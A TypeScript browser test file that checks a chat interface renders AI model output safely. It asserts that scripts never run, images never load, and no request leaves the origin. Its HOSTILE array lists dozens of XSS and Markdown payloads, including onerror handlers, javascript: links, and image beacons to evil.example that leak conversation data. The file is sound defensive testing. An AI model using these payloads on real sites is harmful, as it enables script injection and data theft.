// What a model writes is shown and never obeyed: nothing of it runs, nothing of it is fetched, and
// links say where they lead. The judge is the browser: what it ran, what it asked for, what it shows.

import { after, test } from "node:test";
import assert from "node:assert/strict";
import { becomes, close, misdeeds, reads, say, until, visit } from "./browser.ts";
import { words } from "./mock.ts";

after(close);

/** `evil.example` would be asked, and `pwned` would be called, if anything of this worked. */
const HOSTILE = [
  "<script>pwned()</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=https://evil.example/a.png onerror=pwned()>",
  "<img src=x onerror=pwned()>",
  "<svg onload=pwned()><image href=https://evil.example/b.png /></svg>",
  "<svg><script>pwned()</script></svg>",
  "<iframe src=https://evil.example srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<object data=https://evil.example></object><embed src=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example/c.css><style>@import 'https://evil.example/d.css'</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example><button autofocus onfocus=pwned()>x</button></form>",
  "<video src=https://evil.example/e.mp4 autoplay></video><audio src=https://evil.example/f.mp3 autoplay>",
  "<details open ontoggle=pwned()>x</details>",
  "<math><mtext><mglyph><style><img src=x onerror=pwned()>",
  "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
  "<a href=javascript:pwned()>click</a>",
  "<!-- <img src=https://evil.example/g.png> --><!--><img src=x onerror=pwned()>-->",
  "<![CDATA[<script>pwned()</script>]]>",
  "<template><script>pwned()</script></template>",
  "[click](javascript:pwned())",
  "[click](JaVaScRiPt:pwned())",
  "[click](&#106;avascript:pwned())",
  "[click](javascript&colon;pwned())",
  "[click](java\tscript:pwned())",
  "[click](data:text/html,<script>pwned()</script>)",
  "[click](vbscript:pwned())",
  "[click](file:///etc/passwd)",
  "[click](blob:https://evil.example/1)",
  "<javascript:pwned()>",
  "[click](https://localhost@evil.example)",
  '[click](https://evil.example/"onmouseover="pwned())',
  "[x][1]\n\n[1]: javascript:pwned()",
  "![picture](https://evil.example/h.png?secret=conversation)",
  "![picture](//evil.example/i.png)",
  "![picture](data:image/svg+xml,<svg onload=pwned()>)",
  "![](https://evil.example/j.png)",
  "![a](https://evil.example/k.png\"onerror=\"pwned())",
  "[![picture](https://evil.example/l.png)](https://evil.example/m)",
  "| ![p](https://evil.example/n.png) | <img src=https://evil.example/o.png> |\n|---|---|\n| <script>pwned()</script> | [x](javascript:pwned()) |",
  "# <img src=x onerror=pwned()> ![p](https://evil.example/q.png)",
  "> - <script>pwned()</script>\n>   ![p](https://evil.example/r.png)",
  "```html\n<script>pwned()</script>\n```",
  "```\"><img src=x onerror=pwned()>\nx\n```",
  "``` <script>pwned()</script>\nx",
  "`<img src=x onerror=pwned()>`",
  "&lt;script&gt;pwned()&lt;/script&gt;",
  "\u0000<script>pwned()</script>",
  "*".repeat(3000) + "<script>pwned()</script>",
  ">".repeat(3000) + "<img src=x onerror=pwned()>",
  "[".repeat(3000) + "x" + "](https://evil.example)".repeat(300),
  "- ".repeat(2000) + "<script>pwned()</script>",
  "<div>".repeat(3000),
  "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %>",
];

/** Elements that a model's words may become. */
const ALLOWED = "a bdi blockquote br button code div em figcaption figure h3 h4 h5 h6 hr li ol p path pre s span strong svg table tbody td th thead tr ul".split(" ");

test("hostile Markdown is text, and nothing leaves the origin", { timeout: 120_000 }, async () => {
  const own = await visit();
  const { page, mock } = own;
  await page.exposeFunction("pwned", () => own.faults.push("a script of the model ran"));
  mock.answer = () => words(HOSTILE.join("\n\n"));
  await say(page, "be evil");
  await page.getByText("tokens/s").waitFor({ timeout: 30_000 });
  // Once as one text, streamed; and each alone, read back from the session.
  mock.keep(HOSTILE.flatMap((content) => [{ role: "user", content }, { role: "assistant", content }]), { id: "evil", name: "<img src=x onerror=pwned()>" });
  await page.evaluate(() => (location.hash = "#/chat/evil"));
  await until(async () => (await page.locator(".turn.assistant").count()) === HOSTILE.length, "the turns", 30_000);

  const seen = await page.evaluate(() => {
    const all = [...document.querySelectorAll(".prose *")];
    return {
      tags: [...new Set(all.map((element) => element.tagName.toLowerCase()))],
      attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
      links: [...document.querySelectorAll<HTMLAnchorElement>(".prose a")].map((link) => [link.protocol, link.rel, link.target, link.host, link.textContent ?? ""]),
      frames: window.length,
      text: document.querySelector(".turns")?.textContent ?? "",
    };
  });
  assert.deepEqual(seen.tags.filter((tag) => !ALLOWED.includes(tag)), []);
  const attributes = ["aria-hidden", "aria-label", "class", "d", "dir", "href", "rel", "role", "scope", "start", "tabindex", "target", "title", "type", "viewBox"];
  assert.deepEqual(seen.attributes.filter((name) => !attributes.includes(name)), []);
  assert.ok(seen.links.length > 5, "some of it are links");
  for (const [protocol, rel, target, host, text] of seen.links) {
    assert.equal(protocol, "https:");
    assert.match(rel ?? "", /noreferrer/);
    assert.equal(target, "_blank");
    assert.ok(text?.includes(host ?? "?"), `${text} does not say that it leads to ${host}`);
  }
  assert.equal(seen.frames, 0);
  assert.ok(seen.text.includes("<script>pwned()</script>"), "what was written is there to read");

  // The pointer over everything, and a click on what may be clicked inside the page.
  for (const link of await page.locator(".prose a").all()) await link.dispatchEvent("mouseover");
  await page.waitForTimeout(300);
  assert.deepEqual(misdeeds(own), []);
  await own.end();
});

test("a picture is named and not loaded; its link leads there only by a click", async () => {
  const own = await visit();
  const { page, mock } = own;
  mock.answer = () => words("![a cat](https://pictures.example/cat.png?q=secret)");
  await say(page, "show me a cat");
  const link = page.getByRole("link", { name: /Image, not loaded: a cat/ });
  await link.waitFor();
  await reads(() => link.textContent(), /pictures\.example/);
  await becomes(() => link.getAttribute("href"), "https://pictures.example/cat.png?q=secret");
  assert.deepEqual(misdeeds(own), []);
  await own.end();
});

test("the policy is a wall of its own: what gets past the renderer stops there", async () => {
  const own = await visit();
  const { page } = own;
  const broken = await page.evaluate(async () => {
    const out: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => out.push(event.effectiveDirective));
    const attempt = (name: string, work: () => void) => {
      try {
        work();
        out.push(`${name} was possible`);
      } catch (error) {
        out.push((error as Error).name);
      }
    };
    attempt("innerHTML", () => {
      document.createElement("div").innerHTML = "<b>x</b>";
    });
    attempt("a script's text", () => {
      document.createElement("script").textContent = "1";
    });
    const frame = document.createElement("iframe");
    attempt("srcdoc", () => {
      frame.srcdoc = "<b>x</b>";
    });
    const image = document.createElement("img");
    image.src = "https://evil.example/p.png";
    document.body.append(image);
    await fetch("https://evil.example/").catch(() => {});
    await new Promise((done) => setTimeout(done, 200));
    return out;
  });
  assert.deepEqual(broken.filter((what) => what === "TypeError").length, 3, broken.join());
  for (const directive of ["img-src", "connect-src"]) assert.ok(broken.includes(directive), `${directive} in ${broken.join()}`);
  assert.ok(!broken.some((what) => what.includes("was possible")), broken.join());
  await own.end();
});

test("hostile names and calls are text too", async () => {
  const own = await visit();
  const { page, mock } = own;
  await page.exposeFunction("pwned", () => own.faults.push("a script of the model ran"));
  mock.answer = () => [
    { event: "call", data: { id: "1", name: "<img src=x onerror=pwned()>", arguments: { "<b>": "<script>pwned()</script>", __proto__: 1, deep: [[[{ a: null }]]] } } },
    { event: "call", data: { id: "2", name: "odd", arguments: "not { json" } },
    { event: "call", data: { id: "3", name: "empty", arguments: {} } },
  ];
  await say(page, "call");
  await page.getByText("tokens/s").waitFor();
  await becomes(() => page.locator(".call").count(), 3);
  assert.equal(await page.locator(".call img, .call script, .call b").count(), 0);
  await page.getByText("not { json").waitFor();
  await page.getByText("No arguments").waitFor();
  assert.deepEqual(misdeeds(own), []);
  await own.end();
});
